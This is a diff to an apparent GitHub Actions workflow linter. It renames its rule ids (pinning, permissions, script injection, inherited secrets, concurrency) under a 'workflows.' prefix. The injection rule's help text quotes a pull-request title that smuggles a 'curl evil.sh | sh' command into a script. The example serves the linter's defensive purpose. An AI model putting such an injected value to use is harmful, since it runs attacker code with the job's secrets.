@@ -43,7 +43,7 @@ function pinOf({text}: Written, owners: readonly string[]): Pin {
 }
 
 export const pinned = rule({
-  id: 'pin',
+  id: 'workflows.pin',
   about: 'Actions and reusable workflows of others are pinned.',
   enforcement: 'warn',
   help: `\`uses: owner/action@main\` runs whatever stands there tomorrow, with this job's secrets. A tag can be moved as well, and has been (tj-actions/changed-files, March 2025); a full commit SHA cannot.
@@ -75,7 +75,7 @@ export const pinned = rule({
 });
 
 export const permissions = rule({
-  id: 'permissions',
+  id: 'workflows.permissions',
   about: 'Workflows say what their token may do.',
   enforcement: 'warn',
   help: `Without \`permissions\` a token may do what the repository's settings give it, which for older repositories is to write everything. An action that is taken over then writes too.
@@ -124,7 +124,7 @@ function isUntrusted(source: string): boolean {
 }
 
 export const injection = rule({
-  id: 'injection',
+  id: 'workflows.injection',
   about: 'What strangers write does not become part of a script.',
   enforcement: 'warn',
   help: `GitHub replaces \`\${{ }}\` before the shell reads the script. A pull request whose title is \`"; curl evil.sh | sh; "\` then runs that:
@@ -153,7 +153,7 @@ export const injection = rule({
 });
 
 export const inherit = rule({
-  id: 'secrets-inherit',
+  id: 'workflows.secrets-inherit',
   about: 'Workflows of others get only the secrets that they are named for.',
   enforcement: 'warn',
   help: `\`secrets: inherit\` hands every secret of the repository and its organisation to the called workflow, the ones that are added next year too.
@@ -176,7 +176,7 @@ Judged are calls of workflows of other repositories; under \`level: strict\` tho
 });
 
 export const concurrency = rule({
-  id: 'concurrency',
+  id: 'workflows.concurrency',
   about: 'Two releases do not run at once, and none is cut off halfway.',
   enforcement: 'warn',
   help: `Two runs that upload at the same time can overtake each other: the older build ends up as the newest. \`cancel-in-progress: true\` is no way out: it cuts off an upload in the middle.
